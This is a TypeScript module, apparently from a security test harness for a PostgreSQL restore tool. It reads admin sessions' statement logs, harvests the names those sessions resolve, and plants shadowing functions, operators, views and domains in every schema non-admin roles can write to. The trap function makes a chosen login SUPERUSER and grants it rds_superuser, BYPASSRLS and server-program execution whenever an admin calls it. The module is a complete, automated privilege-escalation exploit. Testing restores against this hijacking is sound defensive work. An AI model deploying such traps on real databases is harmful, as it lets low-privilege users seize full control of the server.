// The attack surface of the admin sessions, read from what they really send: every statement a login with
// admin rights ran (the server's own statement log, jsonlog), parsed with PostgreSQL's parser (libpg-query),
// gives the function, operator, relation and type names those sessions resolve. For each name, traps are
// planted in every schema a non-admin role can create in: the overloads that would beat the catalog's in
// resolution (polymorphic and "any" arguments made concrete, one argument's type changed), shadowing
// relations and types. Each trap reports its caller to the server log (which no rollback takes back) and,
// called by an admin, tries to make the owner's login a superuser. Nothing here lists a name by hand.
import * as fs from "node:fs";
import * as path from "node:path";
import type { Client } from "pg";

/** A name as the statement wrote it: schema-qualified or not. */
export interface QualifiedName {
  readonly schema?: string;
  readonly name: string;
}

export interface Harvest {
  readonly functions: Map<string, QualifiedName & { readonly arities: Set<number> }>;
  readonly operators: Map<string, QualifiedName>;
  readonly relations: Map<string, QualifiedName>;
  readonly types: Map<string, QualifiedName>;
  /** Statements the parser refused (none expected: the log holds only what the server accepted). */
  readonly unparsed: string[];
  readonly statements: number;
}

export interface LogEntry {
  readonly user?: string;
  readonly message?: string;
  readonly error_severity?: string;
  readonly application_name?: string;
}

/** The server's jsonlog lines, one object each (logging_collector writes whole lines). */
export function readJsonLog(dir: string): LogEntry[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir)
    .filter((f) => f.endsWith(".json"))
    .flatMap((f) => fs.readFileSync(path.join(dir, f), "utf8").split("\n"))
    .filter((line) => line.trim())
    .map((line) => JSON.parse(line) as LogEntry);
}

/** "statement: …" (simple protocol) or "execute <name>: …" (extended): the SQL, else undefined. */
export function statementOf(entry: LogEntry): string | undefined {
  const m = /^(?:statement|execute [^:]*): ([\s\S]*)$/.exec(entry.message ?? "");
  return m?.[1];
}

const key = (n: QualifiedName) => (n.schema ? `${n.schema}.${n.name}` : n.name);
const strings = (list: unknown): string[] =>
  Array.isArray(list) ? list.map((s) => (s as { String?: { sval?: string } }).String?.sval ?? "") : [];

function qualified(parts: string[]): QualifiedName {
  return parts.length > 1
    ? { schema: parts[parts.length - 2], name: parts[parts.length - 1] }
    : { name: parts[0] };
}

/** PL/pgSQL is not SQL: its calls and casts are read lexically (a DO block's body). */
const PLPGSQL_WORDS = new Set([
  "if",
  "elsif",
  "loop",
  "while",
  "for",
  "in",
  "return",
  "raise",
  "exception",
  "perform",
]);
function harvestPlpgsql(body: string, h: Harvest): void {
  const text = body.replace(/'(?:[^']|'')*'/g, "''");
  for (const m of text.matchAll(/([a-z_][a-z0-9_$]*(?:\.[a-z_][a-z0-9_$]*)?)\s*\(/gi)) {
    const parts = m[1].toLowerCase().split(".");
    if (parts.length === 1 && PLPGSQL_WORDS.has(parts[0])) continue;
    addFunction(h, qualified(parts), -1);
  }
  for (const m of text.matchAll(/::\s*([a-z_][a-z0-9_$]*(?:\.[a-z_][a-z0-9_$]*)?)/gi)) {
    const n = qualified(m[1].toLowerCase().split("."));
    h.types.set(key(n), n);
  }
}

function addFunction(h: Harvest, n: QualifiedName, arity: number): void {
  const k = key(n);
  const found = h.functions.get(k) ?? { ...n, arities: new Set<number>() };
  if (arity >= 0) found.arities.add(arity);
  h.functions.set(k, found);
}

function walk(node: unknown, h: Harvest): void {
  if (Array.isArray(node)) return node.forEach((n) => walk(n, h));
  if (typeof node !== "object" || node === null) return;
  for (const [k, v] of Object.entries(node as Record<string, unknown>)) {
    const o = v as Record<string, unknown>;
    if (k === "FuncCall")
      addFunction(h, qualified(strings(o.funcname)), Array.isArray(o.args) ? o.args.length : 0);
    else if (k === "A_Expr" || k === "OpExpr") {
      const n = qualified(strings(o.name));
      if (n.name) h.operators.set(key(n), n);
    } else if (k === "RangeVar") {
      const n: QualifiedName = o.schemaname
        ? { schema: String(o.schemaname), name: String(o.relname) }
        : { name: String(o.relname) };
      h.relations.set(key(n), n);
    } else if (k === "TypeName") {
      const n = qualified(strings(o.names));
      if (n.name) h.types.set(key(n), n);
    } else if (k === "DoStmt") {
      for (const arg of (o.args as { DefElem?: { defname: string; arg: unknown } }[]) ?? []) {
        const body = (arg.DefElem?.arg as { String?: { sval?: string } })?.String?.sval;
        if (arg.DefElem?.defname === "as" && body) harvestPlpgsql(body, h);
      }
    }
    walk(v, h);
  }
}

export function emptyHarvest(): Harvest {
  return {
    functions: new Map(),
    operators: new Map(),
    relations: new Map(),
    types: new Map(),
    unparsed: [],
    statements: 0,
  };
}

/** Adds every name in `sql` (parsed with libpg-query) to the harvest. */
export async function harvestStatement(sql: string, h: Harvest): Promise<void> {
  const lib = require("libpg-query") as typeof import("libpg-query");
  await lib.loadModule();
  if (!sql.trim()) return;
  (h as { statements: number }).statements++;
  try {
    walk(lib.parseSync(sql), h);
  } catch {
    h.unparsed.push(sql.slice(0, 200));
  }
}

/** Polymorphic and pseudo argument types, and the concrete ones a trap puts in their place. */
const ELEMENT_PSEUDO = new Set([
  '"any"',
  "anyelement",
  "anynonarray",
  "anycompatible",
  "anycompatiblenonarray",
  "anyenum",
]);
const ARRAY_PSEUDO = new Set(["anyarray", "anycompatiblearray"]);
const UNUSABLE =
  /^(internal|cstring|trigger|event_trigger|language_handler|fdw_handler|index_am_handler|tsm_handler|table_am_handler|anyrange|anymultirange|anycompatiblerange|anycompatiblemultirange|record|void|unknown)$/;
export const CONCRETE_TYPES = [
  "text",
  "name",
  "integer",
  "bigint",
  "oid",
  "boolean",
  "timestamp with time zone",
  "json",
  "numeric",
];

/** Argument type lists that could win against `catalog` (one overload's argument types, format_type'd). */
export function winningVariants(catalog: readonly string[], oneArgument = true): string[][] {
  if (catalog.some((t) => UNUSABLE.test(t))) return [];
  const out: string[][] = [];
  const concrete = (t: string, c: string) => (ELEMENT_PSEUDO.has(t) ? c : ARRAY_PSEUDO.has(t) ? `${c}[]` : t);
  if (catalog.some((t) => ELEMENT_PSEUDO.has(t) || ARRAY_PSEUDO.has(t)))
    for (const c of CONCRETE_TYPES) out.push(catalog.map((t) => concrete(t, c)));
  if (!oneArgument) return out;
  const base = catalog.map((t) => concrete(t, "text"));
  base.forEach((t, i) => {
    for (const c of CONCRETE_TYPES) if (c !== t) out.push(base.map((u, j) => (j === i ? c : u)));
  });
  return out;
}

export interface Planted {
  readonly functions: number;
  readonly operators: number;
  readonly relations: number;
  readonly types: number;
  readonly schemas: readonly string[];
}

/**
 * Roles that count as admin: superuser, CREATEROLE, rds_superuser members, the restore's temporary logins.
 */
export const ADMIN_CHECK = `(r.rolsuper OR r.rolcreaterole OR r.rolname LIKE 'offthegrid\\_restore\\_%' OR EXISTS (
  SELECT FROM pg_catalog.pg_roles s WHERE s.rolname = 'rds_superuser' AND pg_catalog.pg_has_role(r.oid, s.oid, 'MEMBER')))`;

/** Schemas some non-admin role may create in, each with a login that may (to plant as). */
export async function writableSchemas(admin: Client): Promise<{ schema: string; role: string }[]> {
  const { rows } = await admin.query(
    `SELECT n.nspname AS schema, pg_catalog.min(r.rolname) AS role
       FROM pg_catalog.pg_namespace n CROSS JOIN pg_catalog.pg_roles r
      WHERE r.rolcanlogin AND NOT ${ADMIN_CHECK} AND r.rolname NOT LIKE 'pg\\_%'
        AND n.nspname NOT LIKE 'pg\\_%' AND n.nspname <> 'information_schema'
        AND pg_catalog.has_schema_privilege(r.oid, n.oid, 'CREATE')
      GROUP BY n.nspname ORDER BY n.nspname`,
  );
  return rows;
}

/**
 * The trap every planted object calls: logs its caller, and tries to escalate when that caller is an admin.
 */
function trapCore(schema: string, escalate: string): string {
  return `
  CREATE FUNCTION ${schema}.offthegrid_trap(kind text, what text) RETURNS boolean LANGUAGE plpgsql AS $trap$
  DECLARE admin boolean;
  BEGIN
    SELECT ${ADMIN_CHECK} INTO admin FROM pg_catalog.pg_roles r WHERE r.rolname = session_user;
    RAISE WARNING 'offthegrid-trap kind=% name=% session_user=% current_user=% admin=%', kind, what, session_user, current_user, admin;
    IF admin THEN
      BEGIN EXECUTE 'ALTER ROLE ${escalate} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'ALTER ROLE ${escalate} CREATEROLE BYPASSRLS'; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'GRANT rds_superuser TO ${escalate}'; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'GRANT pg_execute_server_program, pg_write_server_files TO ${escalate}'; EXCEPTION WHEN OTHERS THEN NULL; END;
    END IF;
    RETURN true;
  END $trap$;
  GRANT EXECUTE ON FUNCTION ${schema}.offthegrid_trap(text, text) TO PUBLIC;`;
}

const lit = (s: string) => `'${s.replace(/'/g, "''")}'`;
const id = (s: string) => `"${s.replace(/"/g, '""')}"`;

/**
 * Plants traps for every harvested name in every writable schema, as a login that may create there. `asRole`
 * opens a client as that login. Each object is created in its own statement; one the server refuses (a
 * signature that collides with an existing object) is skipped.
 */
export async function plantTraps(
  admin: Client,
  h: Harvest,
  asRole: (role: string) => Promise<Client>,
  escalate: string,
): Promise<Planted> {
  const schemas = await writableSchemas(admin);
  const counts = { functions: 0, operators: 0, relations: 0, types: 0 };
  const catalogOverloads = async (n: QualifiedName) =>
    (
      await admin.query(
        `SELECT pg_catalog.array_agg(pg_catalog.format_type(t.oid, NULL) ORDER BY a.ord) FILTER (WHERE t.oid IS NOT NULL) AS args
           FROM pg_catalog.pg_proc p
           LEFT JOIN LATERAL pg_catalog.unnest(p.proargtypes::oid[]) WITH ORDINALITY a(oid, ord) ON true
           LEFT JOIN pg_catalog.pg_type t ON t.oid = a.oid
          WHERE p.proname = $1 AND ($2::text IS NULL OR p.pronamespace = pg_catalog.to_regnamespace($2))
          GROUP BY p.oid`,
        [n.name, n.schema ?? null],
      )
    ).rows.map((r) => (r.args ?? []) as string[]);
  const catalogOperators = async (n: QualifiedName) =>
    (
      await admin.query(
        `SELECT CASE WHEN o.oprleft = 0 THEN NULL ELSE pg_catalog.format_type(o.oprleft, NULL) END AS l,
                pg_catalog.format_type(o.oprright, NULL) AS r
           FROM pg_catalog.pg_operator o WHERE o.oprname = $1`,
        [n.name],
      )
    ).rows as { l: string | null; r: string }[];
  // Read before anything is planted: the catalog's (and extensions') overloads, not earlier traps.
  const overloadsOf = new Map<string, string[][]>();
  for (const f of h.functions.values())
    overloadsOf.set(key(f), await catalogOverloads(f.schema ? { name: f.name } : f));
  const operatorsOf = new Map<string, { l: string | null; r: string }[]>();
  for (const o of h.operators.values()) operatorsOf.set(key(o), await catalogOperators(o));
  for (const { schema, role } of schemas) {
    const client = await asRole(role);
    const run = async (sql: string) => {
      await client.query("SAVEPOINT plant");
      try {
        await client.query(sql);
        await client.query("RELEASE SAVEPOINT plant");
        return true;
      } catch {
        await client.query("ROLLBACK TO SAVEPOINT plant");
        return false;
      }
    };
    try {
      await client.query("BEGIN");
      const s = id(schema);
      await client.query(trapCore(s, escalate));
      const here = (n: QualifiedName) => n.schema === undefined || n.schema === schema;
      const seen = new Set<string>();
      for (const f of h.functions.values()) {
        if (!here(f)) continue;
        let overloads = overloadsOf.get(key(f)) ?? [];
        if (overloads.length === 0) overloads = [...f.arities].map((n) => Array(n).fill("text"));
        for (const variant of overloads.flatMap((o) => [o, ...winningVariants(o)])) {
          if (variant.some((t) => UNUSABLE.test(t) || ELEMENT_PSEUDO.has(t) || ARRAY_PSEUDO.has(t))) continue;
          const sig = `${f.name}(${variant.join(",")})`;
          if (seen.has(sig)) continue;
          seen.add(sig);
          const params = variant.map((t, i) => `a${i} ${t}`).join(", ");
          const ok = await run(
            `CREATE FUNCTION ${s}.${id(f.name)}(${params}) RETURNS text LANGUAGE plpgsql AS $f$
             BEGIN PERFORM ${s}.offthegrid_trap('function', ${lit(sig)}); RETURN NULL; END $f$;
             GRANT EXECUTE ON FUNCTION ${s}.${id(f.name)}(${variant.join(", ")}) TO PUBLIC`,
          );
          if (ok) counts.functions++;
        }
      }
      let opIndex = 0;
      for (const o of h.operators.values()) {
        if (!here(o) || o.schema === "pg_catalog") continue;
        for (const cat of operatorsOf.get(key(o)) ?? []) {
          const sides = cat.l === null ? [cat.r] : [cat.l, cat.r];
          // The catalog has an exact operator for nearly every pair of built-in types: only the polymorphic
          // ones can be beaten (and one variant per concrete type keeps a restore's lock count sane).
          for (const variant of [sides, ...winningVariants(sides, false)]) {
            if (variant.some((t) => UNUSABLE.test(t) || ELEMENT_PSEUDO.has(t) || ARRAY_PSEUDO.has(t)))
              continue;
            const sig = `${o.name}(${variant.join(",")})`;
            if (seen.has(sig)) continue;
            seen.add(sig);
            const fn = `${s}.offthegrid_trap_op_${opIndex++}`;
            const params = variant.map((t, i) => `a${i} ${t}`).join(", ");
            const args =
              cat.l === null
                ? `RIGHTARG = ${variant[0]}`
                : `LEFTARG = ${variant[0]}, RIGHTARG = ${variant[1]}`;
            const ok = await run(
              `CREATE FUNCTION ${fn}(${params}) RETURNS boolean LANGUAGE plpgsql AS $f$
               BEGIN RETURN ${s}.offthegrid_trap('operator', ${lit(sig)}); END $f$;
               GRANT EXECUTE ON FUNCTION ${fn}(${variant.join(", ")}) TO PUBLIC;
               CREATE OPERATOR ${s}.${o.name} (${args}, FUNCTION = ${fn})`,
            );
            if (ok) counts.operators++;
          }
        }
      }
      for (const r of h.relations.values()) {
        if (!here(r)) continue;
        const ok = await run(
          `CREATE VIEW ${s}.${id(r.name)} AS SELECT ${s}.offthegrid_trap('relation', ${lit(r.name)}) AS trap;
           GRANT ALL ON ${s}.${id(r.name)} TO PUBLIC`,
        );
        if (ok) counts.relations++;
      }
      for (const t of h.types.values()) {
        if (!here(t) || t.schema === "pg_catalog") continue;
        const ok = await run(
          `CREATE DOMAIN ${s}.${id(t.name)} AS text CHECK (${s}.offthegrid_trap('type', ${lit(t.name)}))`,
        );
        if (ok) counts.types++;
      }
      await client.query("COMMIT");
    } finally {
      await client.end().catch(() => undefined);
    }
  }
  return { ...counts, schemas: schemas.map((s) => s.schema) };
}

/** Every role's attributes and memberships: what a trap that ran as an admin would have changed. */
export async function roleSnapshot(admin: Client): Promise<string[]> {
  const { rows } = await admin.query(
    `SELECT r.rolname || ' ' || pg_catalog.concat_ws(',', r.rolsuper, r.rolcreaterole, r.rolcreatedb, r.rolbypassrls,
              r.rolreplication, r.rolcanlogin) || ' in ' ||
            coalesce((SELECT pg_catalog.string_agg(g.rolname, ',' ORDER BY g.rolname) FROM pg_catalog.pg_auth_members m
                        JOIN pg_catalog.pg_roles g ON g.oid = m.roleid WHERE m.member = r.oid), '') AS line
       FROM pg_catalog.pg_roles r WHERE r.rolname NOT LIKE 'offthegrid\\_restore\\_%' ORDER BY r.rolname`,
  );
  return rows.map((r) => r.line);
}
